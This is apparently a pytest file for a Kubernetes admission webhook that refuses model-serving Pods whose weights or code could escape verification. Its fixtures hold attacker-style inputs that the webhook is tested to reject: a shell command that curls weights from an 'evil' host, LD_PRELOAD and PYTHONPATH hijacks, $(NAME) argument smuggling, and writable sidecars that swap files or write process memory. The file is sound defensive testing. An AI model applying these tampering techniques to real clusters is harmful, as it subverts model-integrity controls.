"""/validate-pods refuses a serving Pod whose verifier is missing, changed, not last, or undone by a
writer; and one whose runtime loads what no verifier checks (issue 29, item 1, as an adversary)."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from modelseal.attest.verdict import Mode
from modelseal.operator.admission.decision import AdmissionDecision, decide
from modelseal.operator.admission.verdicts import ModelVerdict
from modelseal.operator.decide.loaded_files import LoadedFile, LoadedFiles
from modelseal.operator.podverify.container import NAME
from tests.operator.podverify.shapes import CURL, IMAGE, cache_key, cached_pod, mutated, pvc_pod, review
from tests.operator.podverify.test_mutation import FOLDER, NS, SERVICES, SOURCE, VERDICTS, A, lookup, services

Pod = dict[str, Any]
MODEL_PATH = f"/models/{cache_key(SOURCE)}/one.gguf"


def judge(pod: Pod, mode: Mode = Mode.ENFORCE, **kwargs: Any) -> AdmissionDecision:
    return decide(review(pod, NS)["request"], mode, lookup, services, verifier_image=IMAGE, **kwargs)


def good() -> Pod:
    return mutated(cached_pod(NS, "svc", "one", SOURCE), NS, lookup, services)


def verifier(pod: Pod) -> dict[str, Any]:
    return next(c for c in pod["spec"]["initContainers"] if c["name"] == NAME)


def test_the_mutated_pod_is_allowed_and_one_without_the_verifier_is_not() -> None:
    """The reproducer: an admitted Model's Pod that would curl an attacker's URL, unchecked, was admitted."""
    assert judge(good()).allowed
    bare = judge(cached_pod(NS, "svc", "one", SOURCE))
    assert not bare.allowed and bare.message == (
        f"modelseal: the Pod has no {NAME} init container: the model files would be loaded unchecked (is the"
        " mutating webhook /mutate-pods registered?)"
    )
    pvc = judge(pvc_pod(NS, "svc", "one", "shared-claim", "evil.gguf"))
    assert not pvc.allowed and f"no {NAME} init container" in pvc.message
    warned = judge(cached_pod(NS, "svc", "one", SOURCE), Mode.WARN)
    assert warned.allowed and f"no {NAME} init container" in warned.warnings[0]


def _set(field: str, value: Any) -> Callable[[Pod], None]:
    def change(pod: Pod) -> None:
        verifier(pod)[field] = value

    return change


def _after(pod: Pod) -> None:
    pod["spec"]["initContainers"].append({"name": "late", "image": CURL, "command": ["sh", "-c", "echo evil > /m"],
                                          "volumeMounts": [{"name": "model-cache", "mountPath": "/models"}]})  # fmt: skip


def _reorder(pod: Pod) -> None:
    inits = pod["spec"]["initContainers"]
    inits.insert(0, inits.pop())


def _twice(pod: Pod) -> None:
    pod["spec"]["initContainers"].append(copy.deepcopy(verifier(pod)))


@pytest.mark.parametrize(
    ("tamper", "said"),
    [
        (_set("image", "evil.example/modelseal:latest"), "field image differs"),
        (_set("command", ["true"]), "field command differs"),
        (_set("command", ["modelseal", "version"]), "field command differs"),
        (_set("args", ["--expect", "b" * 64, MODEL_PATH]), "field args differs"),
        (_set("args", []), "field args differs"),
        (_set("env", [{"name": "PYTHONPATH", "value": "/models"}]), "field env differs"),
        (_set("envFrom", [{"configMapRef": {"name": "x"}}]), "field envFrom differs"),
        (
            _set("volumeMounts", [{"name": "model-cache", "mountPath": "/models"}]),
            "field volumeMounts differs",
        ),
        (_set("securityContext", {"runAsUser": 0}), "field securityContext differs"),
        (_set("restartPolicy", "Always"), "field restartPolicy differs"),
        (_set("terminationMessagePolicy", "File"), "field terminationMessagePolicy differs"),
        (_after, "init container 'late' runs after modelseal-verify"),
        (_reorder, "init container 'model-cache-prep' runs after modelseal-verify"),
        (_twice, "the Pod has 2 modelseal-verify init containers"),
    ],
)
def test_a_tampered_verifier_is_refused(tamper: Callable[[Pod], None], said: str) -> None:
    pod = good()
    tamper(pod)
    decision = judge(pod)
    assert not decision.allowed and said in decision.message, decision.message


def _sidecar(read_only: bool | None, volume: str = "model-cache") -> Callable[[Pod], None]:
    def add(pod: Pod) -> None:
        mount = {
            "name": volume,
            "mountPath": "/cache",
            **({"readOnly": read_only} if read_only is not None else {}),
        }
        pod["spec"]["initContainers"].insert(0, {"name": "swapper", "image": CURL, "restartPolicy": "Always",
                                                 "volumeMounts": [mount]})  # fmt: skip

    return add


def _writable_container(pod: Pod) -> None:
    pod["spec"]["containers"].append({"name": "helper", "image": CURL,
                                      "volumeMounts": [{"name": "model-cache", "mountPath": "/m"}]})  # fmt: skip


def _alias(pod: Pod) -> None:
    """The same claim under another volume name, written by a sidecar."""
    pod["spec"]["volumes"].append(
        {"name": "again", "persistentVolumeClaim": {"claimName": "llmkube-model-cache"}}
    )
    _sidecar(False, "again")(pod)


def _block(pod: Pod) -> None:
    pod["spec"]["containers"].append({"name": "raw", "image": CURL,
                                      "volumeDevices": [{"name": "model-cache", "devicePath": "/dev/m"}]})  # fmt: skip


@pytest.mark.parametrize(
    ("tamper", "said"),
    [
        (_sidecar(None), "container 'swapper' mounts the model volume 'model-cache' writable"),
        (_sidecar(False), "container 'swapper' mounts the model volume 'model-cache' writable"),
        (_writable_container, "container 'helper' mounts the model volume 'model-cache' writable"),
        (_alias, "container 'swapper' mounts the model volume 'again' writable"),
        (_block, "container 'raw' has the model volume 'model-cache' as a block device"),
    ],
)
def test_a_writer_beside_the_runtime_is_refused(tamper: Callable[[Pod], None], said: str) -> None:
    """A native sidecar runs beside the runtime: writable, it could swap a file between check and load."""
    pod = good()
    tamper(pod)
    decision = judge(pod)
    assert not decision.allowed and said in decision.message
    reading = good()
    _sidecar(True)(reading)
    assert judge(mutated(reading, NS, lookup, services)).allowed


def _args(*extra: str, replace: bool = False, allow: bool = False) -> Pod:
    pod = cached_pod(NS, "svc", "one", SOURCE)
    runtime = pod["spec"]["containers"][0]
    runtime["args"] = list(extra) if replace else [*runtime["args"], *extra]
    return mutated(pod, NS, lookup, services, allow=allow)


def test_the_model_argument_is_what_gets_checked_wherever_it_points() -> None:
    """--model at another file of the cache: the verifier checks that file against the attested digest
    (so the bytes the runtime loads are the attested ones, or the Pod does not start)."""
    elsewhere = "/models/0123456789abcdef/other.gguf"
    pod = _args("--model", elsewhere, "--port", "8080", replace=True)
    assert judge(pod).allowed
    assert verifier(pod)["args"] == ["--expect", A, elsewhere]


@pytest.mark.parametrize(
    ("extra", "said"),
    [
        (["--model", "/models/x/evil.gguf"], "the runtime is given 2 model paths"),
        (["--lora", "/models/x/adapter.gguf"], "container 'llama-server' loads --lora '/models/x/adapter.gguf'"),
        (["--mmproj", "/models/x/mm.gguf"], "--mmproj '/models/x/mm.gguf' is not one of Model ml/one's attested files"),
        (["-md", "/models/x/d.gguf"], "the draft '/models/x/d.gguf' is neither a draft Model"),
        (["--hf-repo", "org/evil"], "loads --hf-repo 'org/evil'"),
        (["--trust-remote-code"], "--trust-remote-code runs Model ml/one's Python code, and none is attested"),
        (["--trust-remote"], "--trust-remote-code runs Model ml/one's Python code, and none is attested"),
    ],
)  # fmt: skip
def test_a_runtime_given_unchecked_weights_is_refused(extra: list[str], said: str) -> None:
    decision = judge(_args(*extra))
    assert not decision.allowed and said in decision.message, decision.message


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--model", "models/one.gguf"], "is not an absolute, normalised path"),
        (["--model", "/models/k/../../etc/evil.gguf"], "is not an absolute, normalised path"),
        (["--model", "org/repo"], "is not an absolute, normalised path"),
        (["--model", "/opt/baked/evil.gguf"], "is not on a volume of container 'llama-server'"),
        (["--model", "/models/k/m-00001-of-00003.gguf"], "is a split GGUF part"),
        (["--port", "8080"], "no container is given Model ml/one's path"),
    ],
)
def test_a_model_path_that_cannot_be_checked_is_refused(args: list[str], said: str) -> None:
    decision = judge(_args(*args, replace=True))
    assert not decision.allowed and said in decision.message, decision.message


def test_the_runtimes_environment_and_command_are_read() -> None:
    pod = cached_pod(NS, "svc", "one", SOURCE)
    pod["spec"]["containers"][0]["env"] = [{"name": "LLAMA_ARG_MMPROJ", "value": "/models/x/mm.gguf"}]
    assert "sets LLAMA_ARG_MMPROJ" in judge(mutated(pod, NS, lookup, services)).message
    pod = cached_pod(NS, "svc", "one", SOURCE)
    pod["spec"]["containers"][0]["envFrom"] = [{"configMapRef": {"name": "vars"}}]
    assert "takes envFrom" in judge(mutated(pod, NS, lookup, services)).message
    pod = cached_pod(NS, "svc", "one", SOURCE)
    pod["spec"]["containers"][0]["command"] = [
        "sh",
        "-c",
        "curl -o /tmp/m https://evil && llama-server -m /tmp/m",
    ]
    assert "runs 'sh -c curl" in judge(mutated(pod, NS, lookup, services)).message
    allowed = judge(mutated(pod, NS, lookup, services), allow_weight_paths=True)
    assert not allowed.allowed and "no container is given Model ml/one's path" not in allowed.message


def test_weights_the_flag_allows_are_allowed_with_a_warning_but_the_model_is_still_checked() -> None:
    pod = _args("--lora", "/models/x/adapter.gguf", allow=True)
    decision = judge(pod, allow_weight_paths=True)
    assert decision.allowed and "loads --lora" in decision.warnings[0]
    assert verifier(pod)["args"][-1] == MODEL_PATH


def test_a_mount_the_verifier_cannot_reproduce_is_refused() -> None:
    pod = cached_pod(NS, "svc", "one", SOURCE)
    pod["spec"]["containers"][0]["volumeMounts"][0]["subPathExpr"] = "$(POD_NAME)"
    assert "with subPathExpr or mount propagation" in judge(mutated(pod, NS, lookup, services)).message


def test_a_subpath_and_a_mount_nested_in_the_models_are_seen_by_the_verifier_too() -> None:
    """The runtime sees /models/<key> through another subPath of the claim: so does the verifier."""
    pod = cached_pod(NS, "svc", "one", SOURCE)
    nested = {
        "name": "model-cache",
        "mountPath": f"/models/{cache_key(SOURCE)}",
        "subPath": "evil",
        "readOnly": True,
    }
    pod["spec"]["containers"][0]["volumeMounts"].append(nested)
    pod = mutated(pod, NS, lookup, services)
    # the file is seen through the nested mount; the one above it is the verifier's too (a writer of
    # a folder above could move the mount point), in the runtime's order
    assert verifier(pod)["volumeMounts"] == [
        {"name": "model-cache", "mountPath": "/models", "readOnly": True},
        nested,
    ]
    assert judge(pod).allowed


def test_models_sharing_a_cache_folder_with_other_files_are_checked_exactly() -> None:
    """Two folder Models with one source share /models/<key>: each Pod's verifier requires exactly its
    own files there, so a file staged by the other Model (an unlisted shard) stops it at start."""
    pod = mutated(cached_pod(NS, "multi", "folder", "s3://bucket/m", files=["m-00001-of-00002.gguf"]),
                  NS, lookup, services)  # fmt: skip
    assert verifier(pod)["args"][:2] == ["--exact", f"/models/{cache_key('s3://bucket/m')}"]
    assert len([a for a in verifier(pod)["args"] if a == "--expect"]) == len(FOLDER.files)


def test_remote_code_is_allowed_when_the_folder_attests_it() -> None:
    coded = LoadedFiles((*FOLDER.files, LoadedFile("modeling.py", "e" * 64, "spec.files[2]")), folder=True)
    VERDICTS["coded"] = VERDICTS["folder"].__class__(1, True, "admitted", loaded=coded)
    try:
        pod = cached_pod(NS, "multi", "coded", "s3://bucket/m", files=["m-00001-of-00002.gguf"],
                         extra=["--trust-remote-code"])  # fmt: skip
        assert judge(mutated(pod, NS, lookup, services)).allowed
    finally:
        del VERDICTS["coded"]


def test_the_service_account_token_mount_is_allowed_read_only_and_nothing_else_there() -> None:
    """The ServiceAccount admission plugin mounts the Pod's token into a verifier it sees (a Pod made
    again from one holding it): read-only at its own path it changes nothing the verifier reads."""
    token = {"name": "kube-api-access-x", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}
    pod = good()
    verifier(pod)["volumeMounts"].append({**token, "readOnly": True})
    assert judge(pod).allowed
    pod = good()
    verifier(pod)["volumeMounts"].append(token)
    assert "field volumeMounts differs" in judge(pod).message
    refused = judge(_args("--model", "/var/run/secrets/kubernetes.io/serviceaccount/m.gguf", replace=True))
    assert not refused.allowed and "is not an absolute, normalised path on a volume" in refused.message


def test_a_host_path_written_beside_the_runtime_is_refused() -> None:
    """A node's folder can be where the cache claim's files are: written beside the runtime, it
    could swap them, whatever volume the verifier reads."""
    pod = good()
    pod["spec"]["volumes"].append({"name": "node", "hostPath": {"path": "/var/lib/kubelet"}})
    pod["spec"]["containers"].append({"name": "agent", "image": CURL,
                                      "volumeMounts": [{"name": "node", "mountPath": "/host"}]})  # fmt: skip
    assert "container 'agent' mounts the model volume 'node' writable" in judge(pod).message
    pod["spec"]["containers"][-1]["volumeMounts"][0]["readOnly"] = True
    assert judge(pod).allowed


@pytest.mark.parametrize("kind", ["configMap", "secret", "projected", "downwardAPI"])
def test_a_model_file_on_a_volume_the_api_rewrites_is_refused(kind: str) -> None:
    """The kubelet rewrites a ConfigMap's (Secret's, ...) files when the object changes: after the check."""
    pod = cached_pod(NS, "svc", "one", SOURCE)
    pod["spec"]["volumes"] = [{"name": "model-cache", kind: {"name": "weights"}}]
    decision = judge(mutated(pod, NS, lookup, services))
    assert not decision.allowed and f"is on a {kind} volume" in decision.message


def _update(old: Pod, new: Pod, subresource: str | None = None) -> AdmissionDecision:
    request = {**review(new, NS)["request"], "operation": "UPDATE", "oldObject": old}
    if subresource:
        request["subResource"] = subresource
    return decide(request, Mode.ENFORCE, lookup, services, verifier_image=IMAGE)


def test_a_running_pods_verifier_image_changed_in_place_is_refused() -> None:
    """Kubernetes lets an UPDATE change an init container's image: the verifier would run another
    program at the Pod's next start. Allowed before (only CREATE was judged)."""
    before = good()
    after = copy.deepcopy(before)
    verifier(after)["image"] = "evil.example/modelseal:1"
    denied = _update(before, after)
    assert not denied.allowed and "field image differs" in denied.message
    relabelled = copy.deepcopy(before)
    relabelled["metadata"]["labels"]["extra"] = "x"
    assert _update(before, relabelled).allowed


def test_an_ephemeral_container_writing_the_model_volume_is_refused() -> None:
    """kubectl debug adds an ephemeral container to a running Pod, beside the runtime."""
    before = good()
    after = copy.deepcopy(before)
    after["spec"]["ephemeralContainers"] = [{"name": "debugger", "image": CURL,
                                             "volumeMounts": [{"name": "model-cache", "mountPath": "/m"}]}]  # fmt: skip
    denied = _update(before, after, "ephemeralcontainers")
    assert (
        not denied.allowed
        and "container 'debugger' mounts the model volume 'model-cache' writable" in denied.message
    )
    after["spec"]["ephemeralContainers"][0]["volumeMounts"][0]["readOnly"] = True
    assert _update(before, after, "ephemeralcontainers").allowed


def test_a_pod_labelled_into_a_service_after_its_creation_is_judged() -> None:
    """The red team's attack: a Pod created without LLMKube's labels is never sent to the webhooks
    (no verifier, any --model), then an UPDATE adds inference.llmkube.dev/service and it joins the
    InferenceService's Service. The spec is unchanged, so the UPDATE was allowed as metadata only."""
    unlabelled = cached_pod(NS, "svc", "one", SOURCE)
    unlabelled["spec"]["containers"][0]["args"][1] = "/models/x/evil.gguf"
    unlabelled["metadata"]["labels"] = {"app": "svc"}
    labelled = copy.deepcopy(unlabelled)
    labelled["metadata"]["labels"] = cached_pod(NS, "svc", "one", SOURCE)["metadata"]["labels"]
    denied = _update(unlabelled, labelled)
    assert not denied.allowed and f"the Pod has no {NAME} init container" in denied.message, denied.message
    moved = good()  # verified for Model one through svc, then relabelled to serve Model draft
    relabelled = copy.deepcopy(moved)
    relabelled["metadata"]["labels"]["inference.llmkube.dev/model"] = "draft"
    denied = _update(moved, relabelled)
    assert not denied.allowed and "field args differs" in denied.message, denied.message
    kept = copy.deepcopy(moved)
    kept["metadata"]["labels"]["app"] = "other"  # no label the rule judges changed
    kept["metadata"]["finalizers"] = ["x"]
    assert _update(moved, kept).allowed
    unlabelled_again = copy.deepcopy(moved)
    del unlabelled_again["metadata"]["labels"]["inference.llmkube.dev/service"]
    del unlabelled_again["metadata"]["labels"]["inference.llmkube.dev/model"]
    assert _update(moved, unlabelled_again).allowed  # leaving the Service is no risk


def _second_runtime(pod: Pod) -> None:
    """A second llama-server beside the checked one, given no flag: envFrom sets LLAMA_ARG_HF_REPO."""
    other = copy.deepcopy(pod["spec"]["containers"][0])
    other.update(name="other", args=["--port", "9090"], envFrom=[{"configMapRef": {"name": "vars"}}])
    pod["spec"]["containers"].append(other)


def _runtime_env(name: str, value: str) -> Callable[[Pod], None]:
    def add(pod: Pod) -> None:
        pod["spec"]["containers"][0]["env"] = [{"name": name, "value": value}]

    return add


def _hook(pod: Pod) -> None:
    """A postStart hook runs in the runtime's container as vLLM imports its modules."""
    pod["spec"]["containers"][0]["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "curl ..."]}}}


def _working_dir(pod: Pod) -> None:
    """python3 -m sglang.launch_server puts its working folder first on sys.path: a torch.py planted on
    the Model's claim there shadows the real one."""
    pod["spec"]["containers"][0]["workingDir"] = "/model-source"


def _exec_probe(pod: Pod) -> None:
    pod["spec"]["containers"][0]["startupProbe"] = {"exec": {"command": ["sh", "-c", "curl ..."]}}


@pytest.mark.parametrize(
    ("tamper", "said"),
    [
        (_second_runtime, "container 'other' takes envFrom, which can set the runtime's weight and code variables"),
        (_runtime_env("VLLM_ALLOW_RUNTIME_LORA_UPDATING", "true"),
         "sets VLLM_ALLOW_RUNTIME_LORA_UPDATING: lets any client of the vLLM server load a LoRA adapter"),
        (_runtime_env("LD_PRELOAD", "/models/x/evil.so"),
         "sets LD_PRELOAD: the dynamic loader loads a library it names into the runtime"),
        (_runtime_env("PYTHONPATH", "/models/x"), "sets PYTHONPATH: Python imports modules"),
        (_hook, "container 'llama-server' runs a command (lifecycle.postStart.exec) in the serving container"),
        (_exec_probe, "container 'llama-server' runs a command (startupProbe.exec) in the serving container"),
        (_working_dir, "container 'llama-server' runs in '/model-source': Python run with -m"),
    ],
)  # fmt: skip
def test_a_pod_that_loads_code_or_weights_beside_the_checked_runtime_is_refused(
    tamper: Callable[[Pod], None], said: str
) -> None:
    """Red team 2: each was admitted on the previous commit (envFrom was counted only on the container
    given --model, the Pod's env only for LLAMA_ARG_*, hooks and exec probes not at all)."""
    pod = cached_pod(NS, "svc", "one", SOURCE)
    tamper(pod)
    decision = judge(mutated(pod, NS, lookup, services))
    assert not decision.allowed and said in decision.message, decision.message
    warned = judge(mutated(pod, NS, lookup, services, allow=True), allow_weight_paths=True)
    assert warned.allowed and said in warned.warnings[0], warned


def _expanded(extra: list[str], env: list[dict[str, Any]]) -> Pod:
    pod = cached_pod(NS, "svc", "one", SOURCE, extra=extra)
    pod["spec"]["containers"][0]["env"] = env
    return mutated(pod, NS, lookup, services)


SECRET = {"valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}


@pytest.mark.parametrize(
    ("extra", "env", "said"),
    [
        # the kubelet passes "--model /tmp/evil.gguf -mu https://...": llama.cpp downloads and serves it
        (["$(A)", "/tmp/evil.gguf", "$(B)", "https://evil.example/e.gguf"],
         [{"name": "A", "value": "--model"}, {"name": "B", "value": "-mu"}], "the runtime is given 2 model paths"),
        (["--lo$(X)", "/models/x/a.gguf"], [{"name": "X", "value": "ra"}], "loads --lora '/models/x/a.gguf'"),
        (["$(B)", "/models/x/a.gguf"], [{"name": "A", "value": "--lora"}, {"name": "B", "value": "$(A)"}],
         "loads --lora '/models/x/a.gguf'"),
        (["$(A)", "org/evil"], [{"name": "A", **SECRET}], "is given '$(A)': the kubelet fills $(NAME) in"),
        (["--$(A)"], [], "is given '--$(A)': the kubelet fills $(NAME) in"),
        (["--port", "8080", "$(KUBERNETES_PORT)"], [], "is given '$(KUBERNETES_PORT)'"),
    ],
)  # fmt: skip
def test_arguments_are_read_as_the_kubelet_passes_them(
    extra: list[str], env: list[dict[str, Any]], said: str
) -> None:
    """Red team 2: the kubelet expands $(NAME) in a container's args; the webhook read them as written,
    so a weight flag or a second --model assembled from the environment was admitted."""
    decision = judge(_expanded(extra, env))
    assert not decision.allowed and said in decision.message, decision.message


def test_the_model_path_is_the_expanded_one_and_the_verifier_is_given_it_literally() -> None:
    env = [{"name": "DIR", "value": f"/models/{cache_key(SOURCE)}"}, {"name": "KEY", **SECRET}]
    pod = cached_pod(NS, "svc", "one", SOURCE)
    pod["spec"]["containers"][0]["args"][1] = "$(DIR)/one.gguf"
    pod["spec"]["containers"][0]["args"] += ["--api-key=$(KEY)"]  # a hidden value of a written-out flag
    pod["spec"]["containers"][0]["env"] = env
    pod = mutated(pod, NS, lookup, services)
    assert judge(pod).allowed and verifier(pod)["args"][-1] == MODEL_PATH
    dollar = cached_pod(NS, "svc", "one", SOURCE)
    dollar["spec"]["containers"][0]["args"][1] = (
        f"/models/{cache_key(SOURCE)}/$$(X).gguf"  # llama.cpp gets $(X)
    )
    dollar = mutated(dollar, NS, lookup, services)
    assert judge(dollar).allowed
    assert (
        verifier(dollar)["args"][-1] == f"/models/{cache_key(SOURCE)}/$$(X).gguf"
    )  # so verify-files gets $(X)


def _filled(pod: Pod, volume: str = "scratch") -> None:
    """An emptyDir an init container before the verifier fills with the attacker's bytes."""
    pod["spec"]["volumes"].append({"name": volume, "emptyDir": {}})
    pod["spec"]["initContainers"].insert(0, {"name": "fill", "image": CURL, "command": ["sh", "-c", "curl ..."],
                                             "volumeMounts": [{"name": volume, "mountPath": "/s"}]})  # fmt: skip


def _second_loader(pod: Pod) -> None:
    """A second llama-server given the same --model, but with the filled emptyDir at /models."""
    _filled(pod)
    other = copy.deepcopy(pod["spec"]["containers"][0])
    other.update(name="other", volumeMounts=[{"name": "scratch", "mountPath": "/models", "readOnly": True}])
    pod["spec"]["containers"].append(other)


def _alias_mount(where: str, first: bool = False) -> Callable[[Pod], None]:
    """The filled emptyDir mounted where the container runtime resolves it to /models: the runtime
    sees whichever it mounts last; the verifier was given /models only."""

    def add(pod: Pod) -> None:
        _filled(pod)
        mounts = pod["spec"]["containers"][0]["volumeMounts"]
        mounts.insert(0 if first else len(mounts), {"name": "scratch", "mountPath": where, "readOnly": True})

    return add


def _ancestor(pod: Pod) -> None:
    """The cache's folder mounted by subPath under an emptyDir a regular container writes: it can
    rename the folder (mount point and all) and put a symlink in its place once the runtime starts."""
    _filled(pod)
    key = cache_key(SOURCE)
    pod["spec"]["containers"][0]["volumeMounts"] = [
        {"name": "scratch", "mountPath": "/models", "readOnly": True},
        {"name": "model-cache", "mountPath": f"/models/{key}", "subPath": key, "readOnly": True},
    ]
    pod["spec"]["containers"].append({"name": "swapper", "image": CURL,
                                      "volumeMounts": [{"name": "scratch", "mountPath": "/s"}]})  # fmt: skip


@pytest.mark.parametrize(
    ("tamper", "said"),
    [
        (_second_loader, "2 containers ('llama-server', 'other') are given weight paths"),
        (_alias_mount("//models"), "container 'llama-server' mounts two volumes at '/models'"),
        (_alias_mount("/./models"), "container 'llama-server' mounts two volumes at '/models'"),
        (_alias_mount("/models/", first=True), "container 'llama-server' mounts two volumes at '/models'"),
        (_ancestor, "container 'swapper' mounts the model volume 'scratch' writable"),
    ],
)
def test_a_runtime_that_sees_other_files_than_the_verifier_is_refused(
    tamper: Callable[[Pod], None], said: str
) -> None:
    """Red team 2: each was admitted on the previous commit. The verifier was placed under the mounts
    of the first container given --model, compared mount paths as strings (the container runtime
    cleans them), sorted them by path (the runtime's order decides which of two at one place wins),
    and took no mount above the one covering the file."""
    pod = cached_pod(NS, "svc", "one", SOURCE)
    tamper(pod)
    decision = judge(mutated(pod, NS, lookup, services))
    assert not decision.allowed and said in decision.message, decision.message


def test_a_model_path_with_two_leading_slashes_is_refused() -> None:
    decision = judge(
        _args("--model", f"//models/{cache_key(SOURCE)}/one.gguf", "--port", "8080", replace=True)
    )
    assert not decision.allowed and "is not an absolute, normalised path" in decision.message


@pytest.mark.parametrize(
    "source",
    [
        {"nfs": {"server": "nfs.example", "path": "/exports/llmkube-model-cache"}},
        {
            "csi": {
                "driver": "nfs.csi.k8s.io",
                "volumeAttributes": {"server": "nfs.example", "share": "/exports"},
            }
        },
        {"iscsi": {"targetPortal": "10.0.0.1:3260", "iqn": "iqn.2001-04.com.example:cache", "lun": 0}},
    ],
)
def test_storage_named_directly_and_written_beside_the_runtime_is_refused(source: dict[str, Any]) -> None:
    """Red team 2: the NFS export (or CSI, iSCSI volume) behind the cache claim, mounted writable by a
    sidecar under another name, could swap a file after the check; only a host path counted before."""
    pod = good()
    pod["spec"]["volumes"].append({"name": "backing", **source})
    _sidecar(False, "backing")(pod)
    decision = judge(pod)
    assert not decision.allowed
    assert "container 'swapper' mounts the model volume 'backing' writable" in decision.message
    pod = good()
    pod["spec"]["volumes"].append({"name": "scratch", "emptyDir": {}})
    _sidecar(False, "scratch")(pod)
    assert judge(pod).allowed  # the Pod's own scratch space reaches no claim


def _shared(field: str) -> Callable[[Pod], None]:
    def share(pod: Pod) -> None:
        pod["spec"][field] = True

    return share


def _admin(pod: Pod) -> None:
    """A sidecar that mounts the cache read-only, as allowed, but may remount it writable."""
    pod["spec"]["containers"].append({"name": "agent", "image": CURL,
                                      "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}},
                                      "volumeMounts": [{"name": "model-cache", "mountPath": "/c", "readOnly": True}]})  # fmt: skip


def _privileged(pod: Pod) -> None:
    pod["spec"]["containers"].append(
        {"name": "agent", "image": CURL, "securityContext": {"privileged": True}}
    )


@pytest.mark.parametrize(
    ("tamper", "said"),
    [
        (_shared("shareProcessNamespace"), "the Pod sets shareProcessNamespace: its other containers can reach the runtime's memory"),
        (_shared("hostPID"), "the Pod sets hostPID"),
        (_privileged, "container 'agent' is privileged: it can remount a read-only volume writable"),
        (_admin, "container 'agent' adds CAP_SYS_ADMIN: it can remount a read-only volume writable"),
    ],
)  # fmt: skip
def test_a_container_that_can_reach_the_runtime_is_refused(tamper: Callable[[Pod], None], said: str) -> None:
    """Red team 2: a sidecar sharing the runtime's process namespace writes /proc/PID/mem (busybox dd in
    the curl image will do, where ptrace is not restricted: the runtime runs without capabilities), so
    the weights it loaded change after the check; a privileged one can mount the node's disks. Both
    were admitted, for a verified Model and for an image-bound one alike."""
    pod = good()
    tamper(pod)
    decision = judge(pod)
    assert not decision.allowed and said in decision.message, decision.message
    image = "registry.example/m@sha256:" + "e" * 64
    VERDICTS["image"] = ModelVerdict(1, True, "admitted", loaded=LoadedFiles(image=image))
    SERVICES["image"] = {"modelRef": "image"}
    try:
        pod = cached_pod(NS, "image", "image", SOURCE)
        pod["spec"]["initContainers"] = []
        pod["spec"]["volumes"] = [{"name": "model-cache", "image": {"reference": image}}]
        assert judge(pod).allowed
        tamper(pod)
        decision = judge(pod)
        assert not decision.allowed and said in decision.message, decision.message
    finally:
        del VERDICTS["image"], SERVICES["image"]


def test_the_runtime_itself_may_be_privileged() -> None:
    """An InferenceService's spec.securityContext is the runtime's: privileged, it still loads what its
    arguments name (the verifier checked)."""
    pod = cached_pod(NS, "svc", "one", SOURCE)
    pod["spec"]["containers"][0]["securityContext"] = {"privileged": True}
    assert judge(mutated(pod, NS, lookup, services)).allowed
